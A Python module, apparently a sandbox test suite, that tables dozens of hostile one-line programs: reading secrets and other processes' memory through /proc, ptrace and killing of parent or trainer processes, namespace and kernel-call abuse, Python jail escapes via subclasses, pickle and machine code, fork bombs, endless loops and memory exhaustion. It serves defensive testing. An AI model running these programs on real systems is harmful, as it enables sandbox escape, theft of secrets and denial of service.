"""What a hostile program tries: each source, what it is after, and how its success would be seen.

A program has `argument`, JSON of the facts that an attacker might guess: paths, ports, numbers of processes. Success is
seen in the world (a file that appears, a connection, a victim that changes, a parent that dies), in a secret that comes
back, in the mark PWNED that the program says only where it got what it wanted, or in time and output without end.
"""

from __future__ import annotations

# ruff: noqa: E501 (programs of a line each)

# Before every program. Numbers of system calls are those of x86-64.
PRELUDE = """
import ctypes, json, os, sys
facts = json.loads(argument)
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(number, *arguments):
    said = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    if said < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return said
def read(path):
    with open(path, 'rb') as file:
        return file.read(1 << 20)
def touch(name='file'):
    open(os.path.join(facts['folder'], name), 'w').close()
"""

READING = {
    "a file outside": "result = read(facts['secret'])",
    "a file outside, by the system call": """
buffer = ctypes.create_string_buffer(1000)
place = call(2, facts['secret'].encode(), 0, 0)
call(0, place, buffer, 1000)
result = buffer.raw""",
    "a file by openat2": """
import struct
place = call(437, -100, facts['secret'].encode(), struct.pack('QQQ', 0, 0, 0), 24)
result = os.read(place, 1000)""",
    "a file through mmap": """
import mmap
with open(facts['secret'], 'rb') as file:
    result = mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ)[:]""",
    "a file through the root of a process": "result = read('/proc/self/root' + facts['secret'])",
    "a file through the working folder": "os.chdir(facts['folder'] + '/..'); result = read(os.path.basename(facts['secret']))",
    "a file through a link that is there": "result = read(facts['link'])",
    "a file through a link of its own": "os.symlink(facts['secret'], facts['folder'] + '/l'); result = read(facts['folder'] + '/l')",
    "a file by its handle": """
handle = ctypes.create_string_buffer(b'\\x80\\0\\0\\0' + bytes(132))
mount = ctypes.c_int()
call(303, -100, facts['secret'].encode(), handle, ctypes.byref(mount), 0)
folder = os.open('/', os.O_RDONLY)
place = call(304, folder, handle, 0)
result = os.read(place, 1000)""",
    "a listing of folders": "result = 'PWNED' if os.path.basename(facts['secret']) in os.listdir(os.path.dirname(facts['secret'])) else ''",
    "password file": "result = 'PWNED' if b'root' in read('/etc/passwd') else ''",
    "its own environment": "result = 'PWNED' if read('/proc/self/environ') else ''",
    "its parent's environment": "result = read(f'/proc/{os.getppid()}/environ')",
    "the trainer's environment": "result = 'PWNED' if b'PATH=' in read(f\"/proc/{facts['trainer']}/environ\") else ''",
    "its parent's memory": """
place = os.open(f'/proc/{os.getppid()}/mem', os.O_RDONLY)
for line in open(f'/proc/{os.getppid()}/maps'):
    if '[heap]' in line:
        start = int(line.split('-')[0], 16)
        result = 'PWNED' if os.pread(place, 16, start) else ''""",
    "another process's memory": """
class V(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('size', ctypes.c_size_t)]
for line in open(f"/proc/{facts['victim']}/maps"):
    if '[heap]' in line or '[stack]' in line:
        start = int(line.split('-')[0], 16)
buffer = ctypes.create_string_buffer(64)
here, there = V(ctypes.addressof(buffer), 64), V(start, 64)
result = 'PWNED' if call(310, facts['victim'], ctypes.byref(here), 1, ctypes.byref(there), 1, 0) == 64 else ''""",
    "what its parent has open": "result = read(f\"/proc/{facts['trainer']}/fd/{facts['open']}\")",
    "descriptors that were left open": """
for number in range(3, 200):
    try:
        said = os.pread(number, 100, 0)
    except OSError:
        continue
    if b'TOKEN' in said:
        result = said""",
    "the kernel's messages": "result = 'PWNED' if call(103, 10, None, 0) > 0 else ''",
    "where a link of a process leads": "result = 'PWNED' if os.readlink(f\"/proc/{facts['victim']}/exe\") else ''",
    "commands of other processes": "result = 'PWNED' if read(f\"/proc/{facts['victim']}/cmdline\") else ''",
}

WRITING = {
    "a file": "touch()",
    "a file in /tmp": "path = '/tmp/' + facts['name']; open(path, 'w').close(); os.unlink(path); result = 'PWNED'",
    "a file in /dev/shm": "path = '/dev/shm/' + facts['name']; open(path, 'w').close(); os.unlink(path); result = 'PWNED'",
    "a file by the system call": "call(85, (facts['folder'] + '/file').encode(), 0o600)",
    "a file without a name": "os.open(facts['folder'], os.O_TMPFILE | os.O_RDWR); result = 'PWNED'",
    "a folder": "os.mkdir(facts['folder'] + '/new')",
    "a link": "os.symlink('/', facts['folder'] + '/new')",
    "a second name of a file": "os.link(facts['secret'], facts['folder'] + '/new')",
    "another name of a file": "os.rename(facts['kept'], facts['folder'] + '/new')",
    "no file": "os.unlink(facts['kept']); result = 'PWNED'",
    "a shorter file": "os.truncate(facts['kept'], 0); result = 'PWNED' if os.stat(facts['kept']).st_size == 0 else ''",
    "the rights of a file": "os.chmod(facts['kept'], 0o777); result = 'PWNED'",
    "the owner of a file": "os.chown(facts['kept'], 12345, 12345); result = 'PWNED'",
    "the time of a file": "os.utime(facts['kept'], (1, 1)); result = 'PWNED'",
    "an attribute of a file": "os.setxattr(facts['kept'], 'user.a', b'b'); result = 'PWNED'",
    "a pipe with a name": "os.mkfifo(facts['folder'] + '/new')",
    "into what is installed": "path = os.path.dirname(os.__file__) + '/' + facts['name'] + '.py'; open(path, 'w').close(); os.unlink(path); result = 'PWNED'",
    "into the trainer's settings": "file = open(f\"/proc/{facts['trainer']}/oom_score_adj\", 'w'); file.write('0'); file.close(); result = 'PWNED'",
    "the trainer's memory": "os.open(f\"/proc/{facts['trainer']}/mem\", os.O_RDWR); result = 'PWNED'",
    "a lock that others wait for": "import fcntl; fcntl.flock(os.open(facts['kept'], os.O_RDONLY), fcntl.LOCK_EX); result = 'PWNED'",
    "a watch on a folder": "number = call(253); call(254, number, facts['folder'].encode(), 2); result = 'PWNED'",
}

NETWORK = {
    "TCP": "import socket; socket.create_connection(('127.0.0.1', facts['port'])).send(b'x')",
    "a server": "import socket; s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); result = 'PWNED'",
    "UDP": "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 9)); result = 'PWNED'",
    "IPv6": "import socket; socket.socket(socket.AF_INET6).bind(('::', 0)); result = 'PWNED'",
    "a unix socket": "import socket; socket.socket(socket.AF_UNIX).connect(facts['unix'])",
    "an abstract socket": "import socket; socket.socket(socket.AF_UNIX).connect('\\0' + facts['abstract'])",
    "netlink": "import socket; s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); s.bind((0, 0)); result = 'PWNED'",
    "raw packets": "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW); result = 'PWNED'",
    "a pair of sockets": "import socket; socket.socketpair(); result = 'PWNED'",
    "a socket by the system call": "call(41, 2, 1, 0); result = 'PWNED'",
    "a virtual machine's socket": "import socket; socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); result = 'PWNED'",
    "a crypto socket": "import socket; socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET); result = 'PWNED'",
}

PROCESSES = {
    "os.system": "result = 'PWNED' if os.system('true') == 0 else ''",
    "subprocess": "import subprocess; subprocess.run(['touch', facts['folder'] + '/file'])",
    "posix_spawn": "pid = os.posix_spawn('/bin/true', ['true'], {}); result = 'PWNED' if os.waitpid(pid, 0)[1] == 0 else ''",
    "exec in its place": "os.execv('/bin/sh', ['sh', '-c', f\"touch {facts['folder']}/file\"])",
    "exec by the system call": """
words = (ctypes.c_char_p * 3)(b'touch', (facts['folder'] + '/file').encode(), None)
call(59, b'/usr/bin/touch', words, None)""",
    "exec by a descriptor": "place = os.open('/bin/sh', os.O_RDONLY); os.execve(place, ['sh', '-c', f\"touch {facts['folder']}/file\"], os.environ)",
    "a program in memory": """
place = os.memfd_create('x', 0)
os.write(place, read('/bin/true'))
pid = os.fork()
if pid == 0:
    os.execve(place, ['true'], {})
result = 'PWNED' if os.waitpid(pid, 0)[1] == 0 else ''""",
    "fork": "pid = os.fork()\nif pid == 0: touch(); os._exit(0)\nos.waitpid(pid, 0)",
    "fork by the system call": "pid = call(57)\nif pid == 0: os._exit(0)\nos.waitpid(pid, 0); result = 'PWNED'",
    "vfork by clone": "pid = call(56, 17, 0, 0, 0, 0)\nif pid == 0: os._exit(0)\nos.waitpid(pid, 0); result = 'PWNED'",
    "a bomb of forks": """
pids = []
for n in range(30):
    pid = os.fork()
    if pid == 0: os._exit(0)
    pids.append(pid)
for pid in pids: os.waitpid(pid, 0)
result = 'PWNED'""",
    "a demon that stays": """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0: touch('demon'); os._exit(0)
    os._exit(0)
os.wait()
import time; time.sleep(.3)""",
    "multiprocessing": "import multiprocessing; p = multiprocessing.get_context('fork').Process(target=touch); p.start(); p.join()",
    "the end of its parent": "os.kill(os.getppid(), 9)",
    "a stop of its parent": "os.kill(os.getppid(), 19); import time; time.sleep(.2); result = 'PWNED'",
    "the end of another": "os.kill(facts['victim'], 9)",
    "a signal by a thread's number": "call(200, facts['victim'], 9)",
    "a signal by sigqueue": "import struct; call(129, facts['victim'], 9, struct.pack('iii', 9, 0, -1) + bytes(116))",
    "a signal by pidfd": "import signal; signal.pidfd_send_signal(os.pidfd_open(facts['victim']), 9)",
    "a signal by a descriptor's owner": """
import fcntl, struct
reader, writer = os.pipe()
fcntl.fcntl(reader, fcntl.F_SETOWN, facts['victim'])
fcntl.fcntl(reader, 10, 9)
fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
os.write(writer, b'x')
import time; time.sleep(.1)""",
    "ptrace": "call(101, 16, facts['victim'], 0, 0); os.waitpid(facts['victim'], 0); call(101, 17, facts['victim'], 0, 0); result = 'PWNED'",
    "another's limits": "import resource; resource.prlimit(facts['victim'], resource.RLIMIT_NOFILE, (10, 10)); result = 'PWNED'",
    "another's priority": "os.setpriority(os.PRIO_PROCESS, facts['victim'], 19); result = 'PWNED'",
    "another's processors": "os.sched_setaffinity(facts['victim'], {0}); result = 'PWNED'",
    "another's descriptors": "place = os.pidfd_open(facts['victim']); call(438, place, 0, 0); result = 'PWNED'",
}

KERNEL = {
    "its own limits": """
import resource
soft, hard = resource.getrlimit(resource.RLIMIT_CORE)
resource.setrlimit(resource.RLIMIT_CORE, (0, hard)); resource.setrlimit(resource.RLIMIT_CORE, (hard, hard)); result = 'PWNED'""",
    "its limits by the old call": "buffer = (ctypes.c_ulong * 2)(0, 0); call(160, 4, buffer); result = 'PWNED'",
    "its priority": "os.nice(-5); result = 'PWNED'",
    "a root of its own": "os.chroot(facts['folder']); result = 'PWNED'",
    "a namespace of users": "call(272, 0x10000000); result = 'PWNED'",
    "a namespace of mounts": "call(272, 0x20000); result = 'PWNED'",
    "a namespace by clone": "pid = call(56, 0x10000000 | 17, 0, 0, 0, 0)\nif pid == 0: os._exit(0)\nos.waitpid(pid, 0); result = 'PWNED'",
    "a mount": "call(272, 0x20000); call(165, b'none', facts['folder'].encode(), b'tmpfs', 0, 0); result = 'PWNED'",
    "another's namespace": "place = os.open(f\"/proc/{facts['victim']}/ns/uts\", 0); call(308, place, 0); result = 'PWNED'",
    "a name of the machine": "call(272, 0x4000000); call(170, b'pwned', 5); result = 'PWNED'",
    "a key": "call(248, b'user', b'mmrl', b'x', 1, -2); result = 'PWNED'",
    "a keyring": "call(250, 0, -3, 1); result = 'PWNED'",
    "bpf": "import struct; call(321, 0, struct.pack('IIII', 2, 4, 4, 1) + bytes(56), 72); result = 'PWNED'",
    "perf events": "import struct; call(298, struct.pack('IIQQQQQ', 1, 112, 0, 0, 0, 0, 1 << 5 | 1 << 6) + bytes(64), 0, -1, -1, 0); result = 'PWNED'",
    "io_uring": "call(425, 8, ctypes.create_string_buffer(120)); result = 'PWNED'",
    "faults of its own": "call(323, 1); result = 'PWNED'",
    "memory with a name": "os.memfd_create('x'); result = 'PWNED'",
    "shared memory": "number = call(29, 0x1234, 4096, 0o1600); call(31, number, 0, 0); result = 'PWNED'",
    "shared memory of Python": "from multiprocessing.shared_memory import SharedMemory as S; s = S(create=True, size=9); s.close(); s.unlink(); result = 'PWNED'",
    "a queue of messages": "number = call(68, 0x1235, 0o1600); call(71, number, 0, 0); result = 'PWNED'",
    "semaphores": "number = call(64, 0x1236, 1, 0o1600); call(66, number, 0, 0, 0); result = 'PWNED'",
    "a secret memory": "call(447, 0); result = 'PWNED'",
    "its architecture": "call(135, 8); result = 'PWNED'",
    "another user": "os.setuid(65534); result = 'PWNED'",
    "capabilities that are kept": "call(157, 8, 1, 0, 0, 0); result = 'PWNED'",
    "not dying with its parent": "call(157, 1, 0, 0, 0, 0); result = 'PWNED'",
    "no limit on dumps": "call(157, 4, 0, 0, 0, 0); result = 'PWNED'",
    "the clock": "import time; time.clock_settime(time.CLOCK_REALTIME, time.time()); result = 'PWNED'",
    "a module of the kernel": "call(313, 99, b'', 0)\nresult = 'PWNED'",
    "terminals": "import termios, pty; pty.openpty(); result = 'PWNED'",
    "x32 calls": "call(0x40000000 | 39); result = 'PWNED'",
    "a filter of its own": """
import struct
call(157, 38, 1, 0, 0, 0)
code = ctypes.create_string_buffer(struct.pack('HBBI', 6, 0, 0, 0x7fff0000))
call(157, 22, 2, struct.pack('HP', 1, ctypes.addressof(code)), 0, 0)
result = 'PWNED'""",
}

# Ways through Python that go round a reader of its grammar; what they lead to must not work.
ESCAPES = {
    "subclasses": "result = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['system']('true') or 'PWNED'",
    "a format": "touch('{0.__class__.__name__}'.format(()))",
    "a name in pieces": "result = getattr(__import__('o' + 's'), 'sys' + 'tem')('true') or 'PWNED'",
    "a public attribute": "import textwrap; result = textwrap.re.enum.sys.modules['os'].system('true') or 'PWNED'",
    "a decorator": "@exec\n@(lambda f: \"result = __import__('os').system('true') or 'PWNED'\")\nclass A: pass",
    "matching a class": "match ():\n case object(__class__=c): result = os.system('true') or 'PWNED'",
    "a star": "from os import *\nresult = system('true') or 'PWNED'",
    "a codec": "import codecs; exec(codecs.decode(b'726573756c74203d206f732e73797374656d2827747275652729206f72202750574e454427', 'hex'))",
    "a frame": "f = (g for g in ()).gi_frame; result = f.f_builtins['__import__']('os').system('true') or 'PWNED'",
    "a trace": "try: 1 / 0\nexcept Exception as e: result = e.__traceback__.tb_frame.f_globals['os'].system('true') or 'PWNED'",
    "code of its own": "def f(): pass\nf.__code__ = compile(\"import os; os.system('true')\", '', 'exec'); f(); result = os.system('true') or 'PWNED'",
    "a pickle": "import pickle; result = pickle.loads(b'cos\\nsystem\\n(S\\'true\\'\\ntR.') or 'PWNED'",
    "a library of C": "result = libc.system(b'true') or 'PWNED'",
    "machine code": """
import mmap
page = mmap.mmap(-1, 4096, prot=7)
page.write(b'\\x48\\xc7\\xc0\\x29\\x00\\x00\\x00\\x48\\xc7\\xc7\\x02\\x00\\x00\\x00\\x48\\xc7\\xc6\\x01\\x00\\x00\\x00\\x48\\x31\\xd2\\x0f\\x05\\xc3')
run = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
result = 'PWNED' if run() >= 0 else ''""",
    "32-bit machine code": """
import mmap
page = mmap.mmap(-1, 4096, prot=7)
page.write(b'\\x53\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\x5b\\xc3')
run = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
result = 'PWNED' if run() > 0 else ''""",
    "what the runner imported": "import gc; result = [o for o in gc.get_objects() if getattr(o, '__name__', '') == 'os'][0].system('true') or 'PWNED'",
}

# The result's pipe is descriptor 3, here and where a plain parent reads a pickle from it.
RESULTS = {
    "a pickle that acts": """
import pickle
class A:
    def __reduce__(self): return (open, (facts['folder'] + '/unpickled', 'w'))
os.write(3, pickle.dumps(A())); os._exit(0)""",
    "a result without end": "block = b'x' * (1 << 20)\nfor n in range(40): os.write(3, block)\nresult = 'PWNED'",
}

# These end only when something ends them.
ENDLESS = {
    "a loop": "while True: pass",
    "a sleep": "import time; time.sleep(1000)",
    "a loop in C": "sum(iter(int, 1))",
    "a loop that catches everything": "while True:\n try:\n  while True: pass\n except BaseException: pass",
    "one that ignores signals": "import signal\nfor n in range(1, 65):\n try: signal.signal(n, signal.SIG_IGN)\n except (OSError, ValueError): pass\nwhile True: pass",
    "one that blocks signals": "import signal; signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\nwhile True: pass",
    "an expression": "import re; re.match(r'(a|aa)+$', 'a' * 60 + 'b')",
    "a power": "x = 9 ** 9 ** 9",
    "a thread that goes on": "import threading\ndef f():\n while True: pass\nt = threading.Thread(target=f); t.start(); t.join()",
    "a wait for input": "import select; select.select([], [], [])",
    "a lock": "import threading; x = threading.Lock(); x.acquire(); x.acquire()",
    "closed pipes": "os.closerange(0, 64)\nwhile True: pass",
    "at its end": "class A:\n def __del__(s):\n  while True: pass\nx = A(); del x",
    "in an exception": "class A(Exception):\n def __str__(s):\n  while True: pass\nraise A",
    "in a text": "class A:\n def __str__(s):\n  while True: pass\nresult = A()",
}

HUNGRY = {
    "an array": "x = bytearray(3 << 30); result = 'PWNED'",
    "a list": "x = [0] * (40 << 20); result = 'PWNED'",
    "a text": "x = 'a' * (300 << 20); result = 'PWNED'",
    "pages": "import mmap; x = mmap.mmap(-1, 3 << 30); result = 'PWNED'",
    "pages that are shared": "import mmap; x = mmap.mmap(-1, 3 << 30, mmap.MAP_SHARED | mmap.MAP_ANONYMOUS); result = 'PWNED'",
    "pages by the system call": "call(9, 0, 3 << 30, 3, 0x22, -1, 0); result = 'PWNED'",
    "the heap of C": "libc.malloc.restype = ctypes.c_void_p; result = 'PWNED' if libc.malloc(ctypes.c_size_t(3 << 30)) else ''",
    "many stacks": "import threading, time\nthreading.stack_size(64 << 20)\nfor n in range(40): threading.Thread(target=time.sleep, args=(.5,), daemon=True).start()\nresult = 'PWNED'",
    "many threads": "import threading, time\nthreading.stack_size(32768)\nfor n in range(1000): threading.Thread(target=time.sleep, args=(.4,), daemon=True).start()\ntime.sleep(.3)\nresult = 'PWNED'",
    "standard output": "for n in range(20): os.write(1, b'x' * (1 << 20))",
    "descriptors": "x = [os.dup(0) for n in range(500)]; result = 'PWNED'",
    "a file that grows": "place = os.open(facts['kept'], os.O_RDWR); os.pwrite(place, b'x', 1 << 30); os.truncate(facts['kept'], 9); result = 'PWNED'",
}

ATTACKS = {
    f"{group}: {name}": source
    for group, table in {
        "reading": READING,
        "writing": WRITING,
        "network": NETWORK,
        "processes": PROCESSES,
        "kernel": KERNEL,
        "escape": ESCAPES,
        "result": RESULTS,
        "endless": ENDLESS,
        "hungry": HUNGRY,
    }.items()
    for name, source in table.items()
}
